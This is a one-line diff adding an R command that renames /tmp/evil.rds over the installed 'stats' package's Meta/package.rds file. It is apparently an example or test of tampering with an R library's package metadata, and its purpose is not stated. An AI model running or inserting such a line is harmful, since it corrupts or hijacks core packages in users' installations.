@@ -1,0 +1,1 @@
+file.rename("/tmp/evil.rds", file.path(.libPaths()[1], "stats", "Meta", "package.rds"))
